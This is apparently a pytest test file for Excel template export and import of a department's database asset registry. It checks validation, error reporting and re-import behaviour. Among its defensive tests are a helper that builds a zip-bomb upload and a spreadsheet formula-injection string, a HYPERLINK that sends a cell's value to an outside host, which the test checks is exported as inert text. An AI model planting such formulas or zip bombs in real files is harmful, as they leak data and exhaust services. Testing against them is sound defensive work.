"""普查 Excel: the template a clerk fills, all-or-nothing import with every bad row named, re-import updates."""

import io
import zipfile
from typing import Any

import pytest
from openpyxl import load_workbook

from domain import spreadsheet
from domain.assets import services
from domain.assets.excel import AssetImportError, assets_import_xlsx, assets_template_xlsx
from domain.assets.models import Column, Database, DataTable, InformationSystem
from tests import factories

pytestmark = pytest.mark.django_db


@pytest.fixture
def department():
    return factories.department("330106001", "西湖区民政局")


def workbook(rows: dict[str, list[list[Any]]]) -> io.BytesIO:
    """The downloaded template with rows typed in under the headers."""
    book = load_workbook(io.BytesIO(assets_template_xlsx()))
    for title, values in rows.items():
        for row in values:
            book[title].append(row)
    buffer = io.BytesIO()
    book.save(buffer)
    buffer.seek(0)
    return buffer


GOOD = {
    "信息系统": [
        ["低保救助系统", "在用", "政务云", "全区民政工作人员", 120, "某某科技", "是", "低保审批"],
        ["养老服务系统", "在建", "本地机房", None, None, None, "否", None],
    ],
    "数据库": [["低保救助系统", "dibao", "MySQL", "10.1.2.3", 12.5, None]],
    "数据表": [
        ["低保救助系统", "dibao", "family", "低保家庭", 3200, "每日"],
        ["低保救助系统", "dibao", "member", "家庭成员", None, None],
    ],
    "字段": [
        ["低保救助系统", "dibao", "family", "id", "int", None, "否", "主键", None],
        ["低保救助系统", "dibao", "family", "sfzh", "char", 18, "否", "户主身份证号", None],
        ["低保救助系统", "dibao", "member", "name", "varchar", 50, "是", "姓名", None],
    ],
}


def registry() -> list[tuple[Any, ...]]:
    return sorted(
        Column.objects.values_list(
            "table__database__system__name",
            "table__database__name",
            "table__name",
            "table__comment",
            "name",
            "data_type",
            "length",
            "nullable",
            "comment",
            "position",
        )
    )


def test_template_has_a_sheet_per_level_with_drop_downs_and_header_notes():
    """Four sheets (信息系统, 数据库, 数据表, 字段) plus instructions; enumerations are drop-down lists and
    required headers carry a note."""
    book = load_workbook(io.BytesIO(assets_template_xlsx()))

    assert book.sheetnames[:4] == ["信息系统", "数据库", "数据表", "字段"]
    systems = book["信息系统"]
    assert [cell.value for cell in systems[1]][:3] == ["系统名称", "建设状态", "部署方式"]
    assert "必填" in systems["A1"].comment.text
    lists = {rule.formula1 for rule in systems.data_validations.dataValidation}
    assert '"在建,已建,在用,停用"' in lists and '"是,否"' in lists
    cycles = {rule.formula1 for rule in book["数据表"].data_validations.dataValidation}
    assert '"实时,每日,每周,每月,每季度,每半年,每年,其他"' in cycles


def test_a_good_file_is_imported_with_its_hierarchy(department):
    """Systems land in the department; labels become stored values; column order follows the rows."""
    summary = assets_import_xlsx(file=workbook(GOOD), department_id=department.pk)

    assert summary.created == {"informationsystem": 2, "database": 1, "datatable": 2, "column": 3}
    system = InformationSystem.objects.get(name="低保救助系统")
    assert (system.department, system.status, system.deployment, system.on_cloud) == (
        department,
        "in_use",
        "gov_cloud",
        True,
    )
    assert Database.objects.get().engine == "mysql"
    assert DataTable.objects.get(name="family").update_cycle == "daily"
    sfzh = Column.objects.get(name="sfzh")
    assert (sfzh.length, sfzh.nullable, sfzh.position) == (18, False, 2)


def test_importing_the_same_file_again_updates_instead_of_duplicating(department):
    """A second import of an edited file changes the rows in place."""
    assets_import_xlsx(file=workbook(GOOD), department_id=department.pk)
    edited = {**GOOD, "字段": [[*GOOD["字段"][1][:5], 20, "是", "身份证号码", None]]}

    summary = assets_import_xlsx(file=workbook(edited), department_id=department.pk)

    assert summary.created == {}
    assert summary.updated == {"informationsystem": 2, "database": 1, "datatable": 2, "column": 1}
    assert (InformationSystem.objects.count(), Column.objects.count()) == (2, 3)
    assert Column.objects.get(name="sfzh").length == 20


def test_every_bad_row_is_reported_and_nothing_is_imported(department):
    """One bad row stops the file; the report names each bad row's sheet, row number and column."""
    bad = {
        "信息系统": [
            ["低保救助系统", "在用", "政务云", None, 120, None, "是", None],
            ["坏系统", "建设中", "政务云", None, "很多", None, "是", None],  # row 3: status, user count
            ["低保救助系统", "在用", None, None, None, None, None, None],  # row 4: duplicate
        ],
        "数据库": [["不存在的系统", "db1", "MySQL", None, None, None]],  # row 2: unknown system
        "数据表": [["低保救助系统", "dibao", "family", None, -5, "每两天"]],  # row 2: unknown db, rows, cycle
        "字段": [["低保救助系统", "dibao", "family", "sfzh", None, "十八", "是", None, None]],  # row 2
    }

    with pytest.raises(AssetImportError) as caught:
        assets_import_xlsx(file=workbook(bad), department_id=department.pk)

    found = {(error.sheet, error.row, error.column) for error in caught.value.errors}
    assert found == {
        ("信息系统", 3, "建设状态"),
        ("信息系统", 3, "用户数"),
        ("信息系统", 4, "系统名称"),
        ("数据库", 2, "所属系统"),
        ("数据表", 2, "记录数"),
        ("数据表", 2, "更新周期"),
        ("字段", 2, "数据类型"),
        ("字段", 2, "长度"),
    }
    assert "第 3 行" in str(caught.value)
    assert InformationSystem.objects.count() == 0


def test_rows_pointing_at_a_missing_parent_are_reported(department):
    """A table of a database that is neither in the file nor registered is named with its row."""
    rows = {"信息系统": GOOD["信息系统"], "数据表": [["低保救助系统", "nodb", "t", None, None, None]]}

    with pytest.raises(AssetImportError) as caught:
        assets_import_xlsx(file=workbook(rows), department_id=department.pk)

    assert [(e.sheet, e.row, e.column) for e in caught.value.errors] == [("数据表", 2, "数据库名称")]
    assert "低保救助系统 / nodb" in caught.value.errors[0].message


def test_not_an_excel_file_is_reported(department):
    """A file that is not .xlsx is one clear error."""
    with pytest.raises(AssetImportError) as caught:
        assets_import_xlsx(file=io.BytesIO(b"not a workbook"), department_id=department.pk)
    assert "不是有效的 .xlsx 文件" in str(caught.value)


def test_a_departments_registry_round_trips_through_the_template(department):
    """Download the registry as a workbook and import it: nothing new, nothing changed; imported into
    another department it reproduces the same assets."""
    system = services.system_register(
        department_id=department.pk, data={"name": "社救系统", "status": "built", "on_cloud": True}
    )
    database = services.database_register(
        system_id=system.pk, data={"name": "sj", "engine": "dameng", "size_mb": "3.25"}
    )
    table = services.table_register(
        database_id=database.pk, data={"name": "apply", "comment": "申请", "rows": 9, "update_cycle": "monthly"}
    )
    for position, (name, kind, length) in enumerate([("id", "int", None), ("xm", "varchar", 30)], start=1):
        services.column_register(
            table_id=table.pk, data={"name": name, "data_type": kind, "length": length, "position": position}
        )
    before = registry()
    exported = io.BytesIO(assets_template_xlsx(department_id=department.pk))

    summary = assets_import_xlsx(file=exported, department_id=department.pk)

    assert summary.created == {} and registry() == before
    other = factories.department("330106009", "另一个部门")
    exported.seek(0)
    assets_import_xlsx(file=exported, department_id=other.pk)
    copy = Database.objects.get(system__department=other)
    assert (copy.engine, copy.size_mb, copy.system.status, copy.system.on_cloud) == (
        "dameng",
        database.size_mb,
        "built",
        True,
    )
    assert registry() == sorted(before * 2)


def with_member(buffer: io.BytesIO, name: str, size: int) -> io.BytesIO:
    """The workbook with one more zip member of `size` zero bytes (it compresses to almost nothing)."""
    with zipfile.ZipFile(buffer, "a", compression=zipfile.ZIP_DEFLATED) as archive:
        with archive.open(name, "w") as member:
            chunk = bytes(1024 * 1024)
            for _ in range(size // len(chunk)):
                member.write(chunk)
    buffer.seek(0)
    return buffer


def test_a_file_that_unpacks_to_more_than_100_mb_is_refused_unread(department):
    """A small upload whose members unpack to over 100 MB (a zip bomb) is refused before it is opened,
    with one error saying so; nothing is imported."""
    upload = with_member(workbook(GOOD), "xl/media/image1.bin", 101 * 1024 * 1024)
    assert len(upload.getvalue()) < 2 * 1024 * 1024

    with pytest.raises(AssetImportError) as caught:
        assets_import_xlsx(file=upload, department_id=department.pk)

    assert [(e.sheet, e.row) for e in caught.value.errors] == [("文件", 0)]
    assert "100 MB" in caught.value.errors[0].message
    assert InformationSystem.objects.count() == 0


def test_a_sheet_with_more_rows_than_allowed_is_refused(department, monkeypatch):
    """A sheet holding more data rows than MAX_ROWS is one error at the first row over the limit, naming
    the limit; rows are not read further and nothing is imported."""
    monkeypatch.setattr(spreadsheet, "MAX_ROWS", 2)
    systems = [[f"系统{n}", "在用", None, None, None, None, None, None] for n in range(5)]

    with pytest.raises(AssetImportError) as caught:
        assets_import_xlsx(file=workbook({"信息系统": systems}), department_id=department.pk)

    assert [(e.sheet, e.row) for e in caught.value.errors] == [("信息系统", 4)]
    assert "超过 2 行" in caught.value.errors[0].message
    assert InformationSystem.objects.count() == 0


def test_the_error_list_stops_at_500_and_counts_the_rest(department):
    """A file with 600 bad rows lists the first 500 (in row order) and says how many more there are."""
    systems = [[f"系统{n}", "建设中", None, None, None, None, None, None] for n in range(600)]

    with pytest.raises(AssetImportError) as caught:
        assets_import_xlsx(file=workbook({"信息系统": systems}), department_id=department.pk)

    error = caught.value
    assert (len(error.errors), error.more, error.total) == (500, 100, 600)
    assert [e.row for e in error.errors] == list(range(2, 502))
    assert str(error).endswith("还有 100 个错误")


def test_numbers_too_big_for_the_registry_are_row_errors(department):
    """A 长度 of 3000000000, a 用户数 over 2147483647 or a 数据量 of 10¹³ MB is reported on its row and
    column like any other mistake, instead of failing the import in the database."""
    rows = {
        "信息系统": [["低保救助系统", "在用", None, None, 3_000_000_000, None, None, None]],
        "数据库": [["低保救助系统", "dibao", "MySQL", None, 10**13, None]],
        "数据表": [["低保救助系统", "dibao", "family", None, None, None]],
        "字段": [["低保救助系统", "dibao", "family", "sfzh", "char", 3_000_000_000, "否", None, None]],
    }

    with pytest.raises(AssetImportError) as caught:
        assets_import_xlsx(file=workbook(rows), department_id=department.pk)

    found = {(e.sheet, e.row, e.column) for e in caught.value.errors}
    # The table row then names a database the file holds no valid row of: reported too.
    assert found == {
        ("信息系统", 2, "用户数"),
        ("数据库", 2, "数据量（MB）"),
        ("数据表", 2, "数据库名称"),
        ("字段", 2, "长度"),
    }
    assert "2147483647" in next(e.message for e in caught.value.errors if e.column == "长度")


def test_a_comment_from_a_probed_database_is_exported_as_text_not_a_formula(department):
    """A column comment the probed database carries (anyone who can comment there controls it) reads back as
    text in the department's workbook, never as a live formula."""
    hostile = '=HYPERLINK("http://x/?"&A1,"点此")'
    system = services.system_register(department_id=department.pk, data={"name": "人口库", "status": "in_use"})
    database = services.database_register(system_id=system.pk, data={"name": "rk"})
    table = services.table_register(database_id=database.pk, data={"name": "person", "comment": hostile})
    services.column_register(table_id=table.pk, data={"name": "xm", "data_type": "varchar", "comment": hostile})

    book = load_workbook(io.BytesIO(assets_template_xlsx(department_id=department.pk)))

    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value == hostile]
    assert len(cells) == 2 and {cell.data_type for cell in cells} == {"s"}
